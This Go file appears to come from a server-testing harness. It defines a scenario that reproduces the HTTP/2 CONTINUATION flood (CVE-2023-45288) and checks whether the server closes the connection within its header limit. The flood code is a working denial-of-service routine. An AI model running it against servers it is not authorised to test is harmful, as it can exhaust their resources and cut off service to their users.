package scenarios

import (
	"context"
	"fmt"
	"strings"

	"golang.org/x/net/http2"
)

const (
	// h2ContinuationFrames bounds the CONTINUATION frames of the flood;
	// with h2ContinuationField bytes of header each, about 10 MiB.
	h2ContinuationFrames = 10000
	h2ContinuationField  = 1 << 10
)

// h2ContinuationFlood is the CONTINUATION flood (CVE-2023-45288): a header
// block that never ends, so a server that buffers or decodes it until
// END_HEADERS spends memory and CPU without limit before any size check
// sees a complete request.
func h2ContinuationFlood() Scenario {
	return Scenario{
		Name: "h2-continuation-flood",
		Description: fmt.Sprintf("One HTTP/2 connection sends a HEADERS frame without END_HEADERS, then up to %d CONTINUATION frames of %s of headers each and never ends the block, for at most %v (CVE-2023-45288).",
			h2ContinuationFrames, size(h2ContinuationField), h2FloodGiveUp),
		Expect: "closes the connection before reading more than max_header + 64KiB of the endless header block",
		Run: attackH2(func(ctx context.Context, s *server, b Bounds) Outcome {
			ctx, cancel := context.WithTimeout(ctx, h2FloodGiveUp)
			defer cancel()
			c, err := s.dialH2(ctx, h2Dial{ackPings: false})
			if err != nil {
				return noH2(err)
			}
			head := c.request("GET", "/")
			// One valid header field per frame, so the server's decoder
			// has real work to do on every frame.
			field := c.fields("x-flood", strings.Repeat("a", h2ContinuationField))
			frames := 0
			legit := s.whileLegitH2(ctx, func() {
				frames = c.flood(ctx, h2ContinuationFrames+1, func(fr *http2.Framer, i int) (int, error) {
					if i == 0 {
						return 1, fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: head, EndStream: true})
					}
					return 1, fr.WriteContinuation(1, false, field)
				})
				c.drain(ctx, h2Settle)
			})
			c.close()

			o := h2Outcome(c, frames, legit)
			_, ended := c.reaction()
			o.Defended = ended && o.ServerBytesRead <= b.MaxHeaderBytes+oversizeSlack
			o.Summary = fmt.Sprintf("%s; %d CONTINUATION frames sent, server read %s; %s",
				c.ending(fmt.Sprintf("still open after %s", secs(c.sinceStart()))), max(frames-1, 0), size(o.ServerBytesRead), legitFigure(legit))
			return o
		}),
	}
}
